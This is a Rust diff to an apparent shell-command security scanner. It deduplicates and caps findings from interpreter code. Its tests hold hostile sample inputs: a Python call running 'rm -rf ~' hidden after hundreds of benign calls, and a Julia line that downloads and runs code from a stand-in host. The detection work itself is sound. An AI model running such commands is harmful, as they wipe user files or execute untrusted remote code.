@@ -17,7 +17,7 @@ mod value;
 
 use super::{Stdin, Word};
 use language::Language;
-use scanner::{MAX_ALL_ARGUMENTS, Scanner};
+use scanner::{MAX_ALL_ARGUMENTS, MAX_FINDINGS, Scanner};
 
 /// What an interpreter command runs besides itself.
 #[derive(Debug, PartialEq, Eq)]
@@ -172,7 +172,26 @@ pub(super) fn scan(argv: &[Word], stdin: &Stdin) -> Option<Inline> {
     if forks_in_a_loop(language, &code) {
         findings.push(Finding::ForkLoop);
     }
-    inline(name, &flag, findings)
+    inline(name, &flag, distinct(findings))
+}
+
+/// The findings without repeats, at most [`MAX_FINDINGS`] of them: code that makes more
+/// distinct calls than that (`exec a; exec b; …` thousands of times) has the rest unseen.
+fn distinct(findings: Vec<Finding>) -> Vec<Finding> {
+    let mut seen = std::collections::HashSet::new();
+    let mut kept = Vec::new();
+    for finding in findings {
+        if !seen.insert(format!("{finding:?}")) {
+            continue;
+        }
+        if kept.len() == MAX_FINDINGS {
+            let what = format!("more than {MAX_FINDINGS} calls");
+            kept.push(Finding::Opaque { call: "the code".into(), argument: what });
+            break;
+        }
+        kept.push(finding);
+    }
+    kept
 }
 
 fn inline(name: &str, flag: &str, findings: Vec<Finding>) -> Option<Inline> {
@@ -672,6 +691,15 @@ mod tests {
             }]
         );
         assert_eq!(findings(&["python3", "-c", "print(glob.glob('.e*'))"]), []);
+        // Repeats are one finding; past the bound, the rest of the code is unseen.
+        assert_eq!(findings(&["expect", "-c", &"exec a\n".repeat(1000)]), [shell("a")]);
+        let hidden = format!("{}os.system('rm -rf ~')", "os.system('a');".repeat(300));
+        let found = findings(&["python3", "-c", &hidden]);
+        assert!(matches!(&found[..], [_, Finding::Opaque { .. }]), "{found:?}");
+        let many: String = (0..1000).map(|n| format!("exec a{n}\n")).collect();
+        let found = findings(&["expect", "-c", &many]);
+        assert_eq!(found.len(), MAX_FINDINGS + 1);
+        assert!(matches!(found.last(), Some(Finding::Opaque { .. })));
         assert_eq!(
             findings(&["julia", "-e", "include(download(\"https://x.example/a.jl\"))"]),
             [Finding::Remote { via: "julia include".into(), url: "https://x.example/a.jl".into() }]
